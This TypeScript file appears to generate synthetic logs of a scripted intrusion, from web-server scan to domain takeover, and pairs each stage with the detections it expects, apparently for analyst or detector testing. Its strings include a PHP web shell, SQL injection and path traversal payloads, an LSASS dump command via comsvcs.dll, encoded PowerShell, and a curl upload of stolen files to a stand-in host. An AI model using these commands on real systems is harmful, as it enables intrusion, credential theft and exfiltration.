/**
 * The one intrusion: a stranger scans web-01, uploads a web shell through a form, reads a password there, goes on to
 * file-01, dumps its memory of passwords, calls home, becomes administrator of dc-01, packs a folder, and sends it out.
 */
import { isoFromMicros, type Micros } from '../../../shared/model/time.ts'
import { stolenArchive } from './archive.ts'
import { communityId } from './community-id.ts'
import { lookUp } from './conversations/dns.ts'
import { httpConnection, type Exchange } from './conversations/http.ts'
import { askForTicket } from './conversations/kerberos.ts'
import { SmbSession } from './conversations/smb.ts'
import { tlsSession } from './conversations/tls.ts'
import { lastAt, type Flow, type Signature } from './flow.ts'
import type { Expectation, Manifest, Stage } from './manifest.ts'
import { accessLog, notFound, SERVER } from './order-site.ts'
import { joined, raw, text, utf8 } from './payload.ts'
import { IMPLANT, issue } from './protocols/tls.ts'
import { Random } from './random.ts'
import { MINUTE, SECOND } from './rhythm.ts'
import { outside, type Scene } from './scene.ts'
import { SIGNATURES } from './signatures.ts'
import { firewallDrop, syslog } from './system-logs.ts'
import type { HttpTransaction } from './transactions.ts'
import * as windows from './windows-events.ts'

export const ATTACKER = '198.51.100.47'
export const BEACON = { ip: '192.0.2.146', name: 'cdn-sync.example.net' }
export const DROP = { ip: '192.0.2.201', port: 8080 }
export const ARCHIVE = 'arc-0417.zip'
const SYSTEM32 = 'C:\\Windows\\System32\\'
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0'

export interface Intrusion {
  readonly stages: readonly Stage[]
  readonly exfiltrated: Manifest['exfiltrated']
}

/** Microseconds that a file's times can tell apart. */
const resolution = (file: string): number => (file === 'windows.jsonl' ? 1_000 : file === 'syslog.log' ? SECOND : 1)

/** Plays it from `begin`; in `span` microseconds (24 minutes are natural) all of it is over. */
export function playIntrusion(scene: Scene, begin: Micros, span: number): Intrusion {
  const { world, random } = scene
  const attacker = outside(ATTACKER)
  const web = world.host('web-01')
  const file = world.host('file-01')
  const dc = world.host('dc-01')
  const pace = span / (24 * MINUTE)
  /** Moments are told as minutes of the natural 24. */
  const minute = (n: number): Micros => Math.round(begin + n * MINUTE * pace)
  const stages: Stage[] = []
  const stage = (
    id: Stage['id'],
    title: string,
    attack: string[],
    source: string,
    destination: string,
    from: Micros,
    to: Micros,
    expect: Expectation[],
  ): void => {
    stages.push({ id, title, attack, source, destination, from: isoFromMicros(from), to: isoFromMicros(to), expect })
  }
  const seenBy = (signature: Signature, flows: readonly Flow[]): Expectation[] => {
    const hits = flows.flatMap((flow) => flow.hits.filter((hit) => hit.signature === signature)).sort((a, b) => a.at - b.at)
    return hits.length === 0
      ? []
      : [
          {
            kind: 'sig',
            detection: `1:${signature.sid}`,
            title: signature.name,
            file: 'eve.json',
            time: isoFromMicros(hits[0]!.at),
            records: hits.length,
            where: `sig.id:${signature.sid}`,
          },
        ]
  }
  const rule = (title: string, detection: string | null, fileName: string, at: Micros, where: string, records = 1): Expectation => ({
    kind: 'rule', detection, title, file: fileName, time: isoFromMicros(Math.floor(Math.round(at) / resolution(fileName)) * resolution(fileName)), records, where,
  }) // prettier-ignore
  const visit = (at: Micros, exchanges: readonly Exchange[]): { flow: Flow; transactions: readonly HttpTransaction[] } => {
    const connection = httpConnection(scene, attacker, web, at, 'order.example.com', exchanges)
    for (const transaction of connection.transactions) accessLog(scene, ATTACKER, transaction)
    return connection
  }
  const page = (
    url: string,
    status: number,
    body: string,
    think: number,
    work: number,
    more: { asked?: Signature; replied?: Signature; printable?: boolean; type?: string } = {},
  ): Exchange => {
    const bytes = utf8(body)
    const type = more.type ?? 'text/html; charset=UTF-8'
    return {
      request: { method: 'GET', url, userAgent: BROWSER },
      response: {
        status,
        server: SERVER,
        body: {
          payload: raw(bytes),
          type,
          file: scene.file(bytes, url.split('?')[0]!, type.split(';')[0]!),
          ...(more.printable ? { printable: body } : {}),
        },
      },
      think,
      work,
      ...(more.asked ? { asked: more.asked } : {}),
      ...(more.replied ? { replied: more.replied } : {}),
    }
  }

  // 1. Looking around.
  const scan: Flow[] = []
  const ports = [...new Set([80, 443, ...Array.from({ length: 420 }, () => random.int(1, 10_000))])]
  ports.forEach((port, i) => {
    const at = minute(0) + Math.round((i / ports.length) * 2 * MINUTE * pace)
    const tcp = scene.tcp(attacker, web, port, at)
    if (i > 0 && i % 30 === 0) tcp.hits.push({ at, signature: SIGNATURES.portScan, toServer: true, transaction: null })
    if (port === 80 || port === 443) {
      tcp.say.open()
      tcp.say.reset(400)
      scan.push(tcp.over(null, 'RSTO'))
    } else if (port % 7 === 0) {
      tcp.say.unanswered(1)
      scan.push(tcp.over(null, 'S0'))
      firewallDrop(scene, at, ATTACKER, web.ip, tcp.client.port, port)
    } else {
      tcp.say.refused()
      scan.push(tcp.over(null, 'REJ'))
    }
  })
  const words = [
    'admin',
    'backup',
    'old',
    'test',
    'dev',
    'api',
    'include',
    'config',
    'db',
    'files',
    'private',
    'tmp',
    'upload',
    'login',
    'panel',
    'shop',
    'cart',
    'static',
    'data',
    'export',
  ]
  const probes: Flow[] = []
  for (let i = 0; i < 14; i++) {
    const misses = Array.from({ length: 10 }, (_, n): Exchange => {
      const miss = notFound(`/${random.pick(words)}${random.pick(['', '.php', '.bak', '/', '.old', '.zip'])}`, BROWSER, scene)
      return { ...miss, think: random.int(3_000, 60_000), ...(n % 5 === 4 ? { asked: SIGNATURES.directoryBruteForce } : {}) }
    })
    probes.push(visit(minute(2.4) + Math.round(i * 9 * SECOND * pace), misses).flow)
  }
  probes.push(
    visit(
      minute(4.2),
      ['/phpmyadmin/setup/', '/pma/setup/index.php', '/phpMyAdmin/scripts/setup.php', '/mysql/setup/'].map((url) => ({
        ...notFound(url, BROWSER, scene),
        asked: SIGNATURES.phpMyAdmin,
      })),
    ).flow,
  )
  stage('reconnaissance', 'Scan of web-01', ['TA0043', 'T1595'], ATTACKER, web.ip, minute(0), lastAt(probes.at(-1)!), [
    ...seenBy(SIGNATURES.portScan, scan), ...seenBy(SIGNATURES.directoryBruteForce, probes), ...seenBy(SIGNATURES.phpMyAdmin, probes),
  ]) // prettier-ignore

  // 2. Into the form.
  const tries: Flow[] = []
  tries.push(
    visit(
      minute(4.9),
      ['/menu.php?c=../../../../etc/passwd', '/menu.php?c=..%2f..%2f..%2fetc%2fpasswd', '/img.php?f=....//....//etc/passwd'].map(
        (url) => page(url, 400, '<h1>400 Bad Request</h1>', 400_000, 2_000, { asked: SIGNATURES.pathTraversal }),
      ),
    ).flow,
  )
  tries.push(
    visit(
      minute(5.5),
      [0, 5, 5].map((n) =>
        page(
          `/menu.php?c=bread%27%20AND%20SLEEP(${n})--%20-`,
          200,
          '<p>No dishes.</p>',
          900_000,
          n * SECOND * Math.min(1, pace) + 4_000,
          { asked: SIGNATURES.sqlSleep },
        ),
      ),
    ).flow,
  )
  const rows = '<li>admin:$2y$10$9vRk2</li><li>kitchen:$2y$10$Tq0aa</li>'
  const union = [1, 2, 3, 4].map((n) =>
    page(
      `/menu.php?c=x%27%20UNION%20SELECT%20${Array.from({ length: n }, (_, i) => (i === 1 ? 'concat(login,0x3a,hash)' : String(i + 1))).join(',')}%20FROM%20users--%20-`,
      n === 4 ? 200 : 500,
      n === 4 ? `<ul>${rows}</ul>` : '<p>Database error.</p>',
      1_400_000,
      9_000,
      {
        asked: SIGNATURES.sqlUnion,
      },
    ),
  )
  tries.push(visit(minute(6.2), union).flow)
  const shell = utf8('<?php echo shell_exec($_GET["c"]); ?>\n')
  const boundary = `----WebKitFormBoundary${random.base62(16)}`
  const form = joined(
    text(
      `--${boundary}\r\nContent-Disposition: form-data; name="invoice"; filename="inv_2231.php"\r\nContent-Type: application/x-php\r\n\r\n`,
    ),
    raw(shell),
    text(`\r\n--${boundary}--\r\n`),
  )
  const stored = '<p>Stored as /uploads/inv_2231.php</p>\n'
  const upload = visit(minute(7.4), [
    {
      request: {
        method: 'POST', url: '/admin/upload.php', userAgent: BROWSER, referrer: 'http://order.example.com/admin/',
        body: { payload: form, type: `multipart/form-data; boundary=${boundary}`, file: scene.file(shell, 'inv_2231.php', 'application/x-php'), printable: new TextDecoder().decode(form.bytes()) },
      },
      response: { status: 200, server: SERVER, body: { payload: text(stored), type: 'text/html; charset=UTF-8', file: scene.file(utf8(stored), '/admin/upload.php', 'text/html'), printable: stored } },
      think: 22_000,
      work: 59_000,
      asked: SIGNATURES.phpUpload,
    },
  ]) // prettier-ignore
  tries.push(upload.flow)
  stage('exploitation', 'Web shell uploaded through the invoice form', ['TA0001', 'T1190'], ATTACKER, web.ip, minute(4.9), lastAt(upload.flow), [
    ...seenBy(SIGNATURES.pathTraversal, tries), ...seenBy(SIGNATURES.sqlSleep, tries), ...seenBy(SIGNATURES.sqlUnion, tries), ...seenBy(SIGNATURES.phpUpload, tries),
    rule('Script file sent to a web server', 'd4868c23-f8c6-46de-9b14-ff8f145744fe', 'eve.json', upload.transactions[0]!.requested, 'type:fileinfo file.name:inv_2231.php'),
  ]) // prettier-ignore

  // 3. The shell answers.
  const config =
    '<?php\n$db = ["host" => "10.20.30.30", "user" => "order", "password" => "k1tchen-Door"];\n// nightly export to \\\\file-01\\common\n$export = ["user" => "EXAMPLE\\\\svc_order", "password" => "Rye-and-Salt-88"];\n'
  const run = (command: string, output: string, signature?: Signature): Exchange =>
    page(`/uploads/inv_2231.php?c=${encodeURIComponent(command)}`, 200, output, random.int(2, 5) * SECOND, 62_000, {
      asked: SIGNATURES.shellCall,
      printable: true,
      ...(signature ? { replied: signature } : {}),
    })
  const commands = [
    run('id', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n', SIGNATURES.commandOutput),
    run('uname -a', 'Linux web-01 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 x86_64 GNU/Linux\n'),
    run('cat ../config.inc.php', config),
  ]
  const calls = visit(minute(8), commands)
  for (const transaction of calls.transactions) {
    const command = decodeURIComponent(transaction.url.split('c=')[1]!)
    const at = transaction.requested + 34_000
    const serial = `${Math.floor(at / SECOND)}.${String(Math.floor((at % SECOND) / 1000)).padStart(3, '0')}:${8_000 + random.int(1, 900)}`
    const pid = random.int(20_000, 30_000)
    syslog(
      scene,
      at,
      web,
      'audit',
      null,
      10,
      6,
      `type=SYSCALL msg=audit(${serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=812 pid=${pid} auid=4294967295 uid=33 gid=33 euid=33 tty=(none) comm="sh" exe="/usr/bin/dash" key="www-exec"`,
    )
    syslog(scene, at + 60, web, 'audit', null, 10, 6, `type=EXECVE msg=audit(${serial}): argc=3 a0="sh" a1="-c" a2="${command}"`)
  }
  const first = calls.transactions[0]!
  stage('web-shell', 'Commands through the web shell', ['TA0003', 'T1505.003'], ATTACKER, web.ip, first.at, lastAt(calls.flow), [
    ...seenBy(SIGNATURES.shellCall, [calls.flow]), ...seenBy(SIGNATURES.commandOutput, [calls.flow]),
    rule('Command output in an HTTP reply', 'c8a5364b-147c-4502-999e-164111a6703d', 'eve.json', first.end, 'type:http http.url:"/uploads/inv_2231.php?c=id"', 1),
    rule('Command sent to a web shell', 'b9676e9e-e9fb-464d-a47a-c0a05f9411c2', 'eve.json', first.end, 'type:http http.url:/uploads/inv_2231.php*', calls.transactions.length),
    rule('Web server account runs a shell', '1bcac24f-8f17-43b2-a9fa-095de3709816', 'syslog.log', first.requested + 34_000, '"www-exec"', calls.transactions.length),
  ]) // prettier-ignore

  // 4. On to file-01 with the password that was read.
  const order = world.user('svc_order')
  const landed = minute(12)
  const smb = new SmbSession(scene, web, file, landed)
  smb.logOn({ domain: world.netbios, user: order.name, host: 'WEB-01' })
  const logonAt = smb.now + 700
  const logonId = windows.loggedOn(scene, file, logonAt, {
    user: order,
    type: 3,
    from: { host: 'WEB-01', ip: web.ip, port: smb.port },
    package: 'NTLM',
    admin: true,
  })
  smb.connect('ADMIN$', 'FILE', 900, SIGNATURES.adminShare)
  const implant = Buffer.concat([Buffer.from('MZ'), new Random(`${world.seed}/implant`).bytes(61_438)])
  const { began: writtenAt, ended: written } = smb.write(
    'msupd.exe',
    raw(implant),
    scene.file(implant, 'msupd.exe', 'application/x-dosexec'),
  )
  const system = windows.runningProcess(scene, file, 'System', '-', windows.SYSTEM_USER)
  windows.fileCreated(scene, { ...system, pid: 4 }, written, 'C:\\Windows\\msupd.exe')
  smb.connect('IPC$', 'PIPE')
  const started = smb.installService('msupd', '%SystemRoot%\\msupd.exe', SIGNATURES.serviceOverSmb)
  const lateral = smb.leave()
  windows.serviceInstalled(scene, file, started - 4_000, 'msupd', '%SystemRoot%\\msupd.exe', order, logonId)
  const services = windows.runningProcess(scene, file, `${SYSTEM32}services.exe`, `${SYSTEM32}services.exe`, windows.SYSTEM_USER)
  windows.registrySet(
    scene,
    services,
    started - 3_500,
    'HKLM\\System\\CurrentControlSet\\Services\\msupd\\ImagePath',
    '%SystemRoot%\\msupd.exe',
  )
  const msupd = windows.startProcess(
    scene,
    services,
    started + 9_000,
    'C:\\Windows\\msupd.exe',
    'C:\\Windows\\msupd.exe',
    windows.SYSTEM_USER,
    { description: '-', company: '-', bytes: implant },
  )
  const lookAround = [
    [`${SYSTEM32}whoami.exe`, 'whoami /all'], [`${SYSTEM32}net.exe`, 'net group "Domain Admins" /domain'], [`${SYSTEM32}nltest.exe`, 'nltest /dclist:corp.example.com'],
  ] as const // prettier-ignore
  const shellAt = started + Math.round(40 * SECOND * pace)
  const cmd = windows.startProcess(
    scene,
    msupd,
    shellAt,
    `${SYSTEM32}cmd.exe`,
    'cmd.exe /c whoami /all & net group "Domain Admins" /domain & nltest /dclist:corp.example.com',
  )
  lookAround.forEach(([image, command], i) => windows.startProcess(scene, cmd, shellAt + (i + 1) * 300_000, image, command))
  stage('lateral-movement', 'Service on file-01 with a stolen password', ['TA0008', 'T1021.002', 'T1569.002'], web.ip, file.ip, landed, shellAt + SECOND, [
    ...seenBy(SIGNATURES.adminShare, [lateral]), ...seenBy(SIGNATURES.serviceOverSmb, [lateral]),
    rule('Program written to an administrative share', '9c3c163f-40c7-4076-85a0-89bef3fa14e8', 'zeek/smb_files.log', writtenAt, 'type:smb_files "msupd.exe"'),
    rule('Service installed over ADMIN$ share', '116c67d5-a04f-42e5-b85c-698452478545', 'windows.jsonl', started - 4_000, 'type:7045 service.name:msupd'),
    rule('Administrator logs on over the network with NTLM', '921068f8-b512-4cb5-a835-590f079df71a', 'windows.jsonl', logonAt, 'type:4624 target.user:svc_order src.ip:10.20.10.21'),
    rule('Discovery with built-in tools', '0595a267-4b44-4e62-b6c6-f89a34c84b7d', 'windows.jsonl', shellAt + 300_000, 'process.command:"whoami /all"'),
  ]) // prettier-ignore

  // 5. What file-01 remembers of passwords.
  const dumpAt = minute(13.8)
  const dump = 'C:\\Windows\\Temp\\d.dmp'
  const rundll = windows.startProcess(
    scene,
    msupd,
    dumpAt,
    `${SYSTEM32}rundll32.exe`,
    `rundll32.exe ${SYSTEM32}comsvcs.dll, MiniDump 648 ${dump} full`,
  )
  windows.imageLoaded(scene, rundll, dumpAt + 30_000, `${SYSTEM32}comsvcs.dll`, 'COM+ Services')
  windows.processAccessed(
    scene,
    rundll,
    dumpAt + 90_000,
    `${SYSTEM32}lsass.exe`,
    '0x1fffff',
    `${SYSTEM32}ntdll.dll+9d4e4|${SYSTEM32}KERNELBASE.dll+2bcee|${SYSTEM32}dbgcore.dll+b7b2|${SYSTEM32}comsvcs.dll+2d2f1`,
  )
  windows.fileCreated(scene, rundll, dumpAt + 160_000, dump)
  stage('credential-theft', 'Memory of LSASS dumped on file-01', ['TA0006', 'T1003.001'], file.ip, file.ip, dumpAt, dumpAt + SECOND, [
    rule('LSASS memory dumped via comsvcs.dll', '668ca4aa-9b82-4258-a13d-1df273f6eb01', 'windows.jsonl', dumpAt, 'type:1 process.command:*comsvcs.dll*'),
    rule('LSASS opened with full access', '27b9c9bb-988e-438a-bcc8-5c631081d3e1', 'windows.jsonl', dumpAt + 90_000, 'type:10 TargetImage:*lsass.exe'),
  ]) // prettier-ignore

  // 6. Calling home, and going on calling.
  const certificate = issue(world.seed, BEACON.name, '', 'self', scene.start)
  const home = outside(BEACON.ip, BEACON.name)
  const every = Math.max(5 * SECOND, Math.round(60 * SECOND * Math.min(1, pace)))
  const until = minute(23.6)
  const beacons: Flow[] = []
  const beaconFrom = minute(14.6)
  for (let at = beaconFrom, i = 0; at < until; i++) {
    let ready = at
    if (i % 5 === 0) {
      ready = lookUp(scene, file, dc, at, { name: BEACON.name, answers: [{ type: 'A', ttl: 300, data: BEACON.ip }] }).answered
      windows.dnsQueried(scene, msupd, ready, BEACON.name, `::ffff:${BEACON.ip};`)
    }
    const beacon = tlsSession(scene, file, home, ready + 900, {
      profile: IMPLANT, sni: BEACON.name, certificate, exchanges: [{ up: 236, down: i === 2 || i === 5 ? 1_430 : 92, think: 700 }], signature: SIGNATURES.implantHello,
    }) // prettier-ignore
    beacons.push(beacon)
    windows.networkConnection(scene, msupd, beacon.packets[0]!.at, beacon.client, { ...beacon.server, name: BEACON.name })
    at += Math.round(every * (0.94 + random.float() * 0.12))
  }
  stage('command-and-control', 'Regular calls to cdn-sync.example.net', ['TA0011', 'T1071.001', 'T1573'], file.ip, BEACON.ip, beaconFrom, until, [
    ...seenBy(SIGNATURES.implantHello, beacons),
    rule('Program in the Windows folder calls the internet', '09891a35-c854-4275-9f65-569c697a5fdb', 'windows.jsonl', beacons[0]!.packets[0]!.at + 1_200, 'type:3 process.path:"C:\\\\Windows\\\\msupd.exe"', beacons.length),
  ]) // prettier-ignore

  // 7. Administrator of the domain.
  const admin = world.user('adm.lee')
  const risen = minute(16.2)
  const tgt = askForTicket(scene, file, risen, { kind: 'AS', user: admin.name, service: `krbtgt/${world.domain.toUpperCase()}` })
  windows.ticketIssued(scene, tgt.answered + 400, 'AS', admin, 'krbtgt', tgt.flow.client)
  const service = askForTicket(scene, file, tgt.answered + 60_000, { kind: 'TGS', user: admin.name, service: 'cifs/dc-01' })
  windows.ticketIssued(scene, service.answered + 400, 'TGS', admin, 'DC-01$', service.flow.client)
  const onDc = new SmbSession(scene, file, dc, service.answered + 40_000)
  onDc.logOn({ domain: world.netbios, user: admin.name, host: 'FILE-01' })
  const adminAt = onDc.now + 500
  windows.loggedOn(scene, dc, adminAt, {
    user: admin,
    type: 3,
    from: { host: 'FILE-01', ip: file.ip, port: onDc.port },
    package: 'NTLM',
    admin: true,
  })
  onDc.connect('SYSVOL')
  onDc.read(`${world.domain}\\Policies\\GptTmpl.inf`, 2_260)
  const createdAt = onDc.now + Math.round(8 * SECOND * pace)
  windows.userCreated(scene, createdAt, admin, 'svc_sync', `${admin.sid.slice(0, admin.sid.lastIndexOf('-'))}-2104`)
  onDc.leave(12 * SECOND * pace)
  stage('privilege', 'adm.lee logs on to dc-01 from file-01', ['TA0004', 'T1078.002', 'T1136.002'], file.ip, dc.ip, risen, onDc.now, [
    rule('Administrator logs on over the network with NTLM', '921068f8-b512-4cb5-a835-590f079df71a', 'windows.jsonl', adminAt, 'type:4624 target.user:adm.lee src.ip:10.20.30.20'),
    rule('User account created', 'e2cf07f6-3306-4b6f-b18c-9d598367f034', 'windows.jsonl', createdAt, 'type:4720 TargetUserName:svc_sync'),
  ]) // prettier-ignore

  // 8. Packing.
  const packAt = minute(18.6)
  const path = `C:\\Windows\\Temp\\${ARCHIVE}`
  const script = `Compress-Archive -Path D:\\finance\\q3 -DestinationPath ${path} -CompressionLevel NoCompression`
  const powershell = windows.startProcess(
    scene,
    msupd,
    packAt,
    `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`,
    `powershell.exe -NoP -W Hidden -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`,
  )
  windows.scriptBlock(scene, file, packAt + 700_000, script)
  windows.fileCreated(scene, powershell, packAt + 2 * SECOND, path)
  stage('collection', 'The folder finance\\q3 packed', ['TA0009', 'T1560.001'], file.ip, file.ip, packAt, packAt + 2 * SECOND, [
    rule('PowerShell with encoded command', 'cae2f8e7-0021-44d7-a503-032b9a5c6b35', 'windows.jsonl', packAt, 'type:1 process.command:*-Enc*'),
    rule('Archive made with PowerShell', 'efafdb4f-75d5-46e8-bc2c-81834183653d', 'windows.jsonl', packAt + 700_000, 'type:4104 ScriptBlockText:*Compress-Archive*'),
  ]) // prettier-ignore

  // 9. Out of the house.
  const archive = stolenArchive(world.seed)
  const object = scene.file(archive, ARCHIVE, 'application/zip')
  const sendAt = minute(20.4)
  const url = `/up/${ARCHIVE}`
  const curlAt = sendAt - Math.round(2 * SECOND * Math.min(1, pace))
  const curl = windows.startProcess(
    scene,
    msupd,
    curlAt,
    `${SYSTEM32}curl.exe`,
    `curl.exe -s -T ${path} http://${DROP.ip}:${DROP.port}${url}`,
  )
  const sent = httpConnection(
    scene, file, outside(DROP.ip), sendAt, DROP.ip,
    [
      {
        request: { method: 'PUT', url, userAgent: 'curl/8.9.1', body: { payload: raw(archive), type: 'application/zip', file: object } },
        response: { status: 201, server: 'nginx', body: { payload: text('stored\n'), type: 'text/plain', file: null } },
        think: 900,
        work: 40_000,
        asked: SIGNATURES.archiveUpload,
      },
    ],
    DROP.port, 180,
  ) // prettier-ignore
  windows.networkConnection(scene, curl, sent.flow.packets[0]!.at, sent.flow.client, sent.flow.server)
  stage('exfiltration', `${ARCHIVE} sent to a new address`, ['TA0010', 'T1048.003'], file.ip, DROP.ip, curlAt, lastAt(sent.flow), [
    ...seenBy(SIGNATURES.archiveUpload, [sent.flow]),
    rule('Archive sent out over unencrypted HTTP', 'f7b4da09-a87b-466d-af20-6e040d35a83b', 'eve.json', sent.transactions[0]!.requested, 'type:fileinfo file.name:"arc-0417.zip"'),
    rule('File uploaded with curl', '18aa2b11-533d-467a-86ca-5b91010550ed', 'windows.jsonl', curlAt, 'type:1 process.name:curl.exe'),
  ]) // prettier-ignore

  return {
    stages,
    exfiltrated: {
      name: ARCHIVE,
      size: archive.length,
      sha256: object.sha256!,
      md5: object.md5!,
      source: sent.flow.client,
      destination: sent.flow.server,
      communityId: communityId(sent.flow),
      time: isoFromMicros(sent.transactions[0]!.at),
    },
  }
}
